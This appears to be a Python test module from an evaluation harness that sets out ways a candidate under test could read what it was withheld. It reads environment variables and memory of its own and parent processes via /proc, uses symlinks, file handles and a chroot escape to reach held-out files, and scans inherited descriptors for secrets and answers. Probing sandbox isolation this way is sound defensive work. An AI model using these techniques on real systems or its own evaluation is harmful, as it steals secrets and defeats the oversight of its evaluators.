"""Techniques to read what a candidate was not given: variables, answers, files, memory. Loaded in workers."""

from __future__ import annotations

import gc
import os
import select
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

from _hostile.calls import copy_of_descriptor, open_handle, vm_read, writable_spans
from _hostile.technique import Given, Technique, in_a_namespace, own_pipes, secrets_in, to

BLOCK = 1 << 24
"""Bytes of memory that are looked through at once."""
WAITING = 0.5
"""Seconds in which the parent may send more."""


@to("own environment")
def look_at_the_environment(given: Given) -> list[str]:
    return secrets_in(repr(dict(os.environ)).encode()) + secrets_in(Path("/proc/self/environ").read_bytes())


@to("parent's environment")
def look_at_the_parents_environment(given: Given) -> list[str]:
    return secrets_in(Path(f"/proc/{given['host']}/environ").read_bytes())


@to("parent's environment")
def have_it_looked_at(given: Given) -> list[str]:
    command = ["cat", f"/proc/{given['host']}/environ", f"/proc/{os.getppid()}/environ"]
    return secrets_in(subprocess.run(command, capture_output=True, check=True).stdout)


@to("own arguments")
def look_at_the_arguments(given: Given) -> list[str]:
    task = given["task"]
    return secrets_in(repr([given["rendered"], task, dict(task.meta), dir(task), sys.argv]).encode())


@to("own objects")
def look_at_all_objects(given: Given) -> list[str]:
    held = (value for thing in gc.get_objects() if type(thing) is dict for value in list(thing.values()))
    return secrets_in("\n".join(value for value in held if type(value) is str).encode(errors="replace"))


@to("own objects")
def look_up_the_stack(given: Given) -> list[str]:
    found, frame = [], sys._getframe()  # noqa: SLF001 - what candidates do
    while frame is not None:
        for value in list(frame.f_locals.values()):
            found += secrets_in(f"{getattr(getattr(value, 'run', value), 'meta', '')}".encode())
        frame = frame.f_back  # type: ignore[assignment]
    return found


@to("own memory")
@to("answers behind")
def look_through_the_memory(given: Given) -> list[str]:
    return in_memory_of("self", _by_file("self"))


@to("parent's memory")
def look_through_the_parents_memory(given: Given) -> list[str]:
    return in_memory_of(given["host"], _by_file(given["host"]))


@to("parent's memory")
def copy_the_parents_memory(given: Given) -> list[str]:
    return in_memory_of(given["host"], lambda first, last: vm_read(given["host"], (first, last)))


def in_memory_of(pid: int | str, read: Callable[[int, int], bytes]) -> list[str]:
    """The secrets in all that a process has made."""
    found: set[str] = set()
    for first, last in writable_spans(pid):
        for start in range(first, last, BLOCK):
            try:
                found.update(secrets_in(read(start, min(start + BLOCK, last))))
            except (OSError, OverflowError):
                continue
    return sorted(found)


def _by_file(pid: int | str) -> Callable[[int, int], bytes]:
    memory = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    return lambda first, last: os.pread(memory, last - first, first)


@to("answers behind")
def read_what_comes_after(given: Given) -> list[str]:
    arrived = select.select(list(own_pipes(os.O_RDONLY)), [], [], WAITING)[0]
    return [found for pipe in arrived for found in secrets_in(os.read(pipe, 1 << 20))]


@to("held-out file")
@to("run directory")
def read_the_file(given: Given) -> list[str]:
    return secrets_in(Path(given["file"]).read_bytes())


@to("held-out file")
@to("run directory")
def have_it_read(given: Given) -> list[str]:
    return secrets_in(subprocess.run(["cat", given["file"]], capture_output=True, check=True).stdout)


@to("held-out file")
@to("run directory")
def read_it_through_a_link(given: Given) -> list[str]:
    link = Path("hostile link")
    link.unlink(missing_ok=True)
    link.symlink_to(given["file"])
    try:
        return secrets_in(link.read_bytes())
    finally:
        link.unlink()


@to("held-out file")
def read_it_through_the_parents_root(given: Given) -> list[str]:
    return secrets_in(Path(f"/proc/{given['host']}/root{given['file']}").read_bytes())


@to("held-out file")
def read_it_through_the_first_process(given: Given) -> list[str]:
    if not in_a_namespace():
        return []
    return secrets_in(Path(f"/proc/1/root{given['file']}").read_bytes())


@to("held-out file")
def read_it_by_its_handle(given: Given) -> list[str]:
    for mounted in (".", "/usr"):
        try:
            return secrets_in(os.read(open_handle(mounted, given["handle"]), 4096))
        except OSError:
            continue
    return secrets_in(os.read(open_handle("/", given["handle"]), 4096))


@to("held-out file")
def read_it_from_another_root(given: Given) -> list[str]:
    """The classic way out of a changed root, done in a copy: nothing leads back."""
    code = (
        "import os; here = os.open('/', 0); os.mkdir('hostile root'); os.chroot('hostile root'); os.fchdir(here);"
        f"[os.chdir('..') for _ in range(40)]; os.chroot('.'); print(open({given['file']!r}).read())"
    )
    ran = subprocess.run([sys.executable, "-I", "-S", "-c", code], capture_output=True, check=True)
    return secrets_in(ran.stdout)


def of_the_canary(name: str) -> Technique:
    """Read one of its files in /proc."""

    def read(given: Given) -> list[str]:
        return secrets_in(Path(f"/proc/{given['canary']}/{name.format(**given)}").read_bytes())

    read.__name__ = f"read {name}"
    return read


for name in ("cmdline", "environ", "fd/{descriptor}"):
    to("others in /proc")(of_the_canary(name))


@to("others in /proc")
def copy_a_descriptor(given: Given) -> list[str]:
    return secrets_in(os.pread(copy_of_descriptor(given["canary"], given["descriptor"]), 4096, 0))


@to("inherited descriptors")
def read_all_descriptors(given: Given) -> list[str]:
    found = []
    for name in os.listdir("/proc/self/fd"):  # noqa: PTH208 - the numbers alone
        try:
            found += secrets_in(os.pread(int(name), 4096, 0))
        except OSError:
            continue
    return found
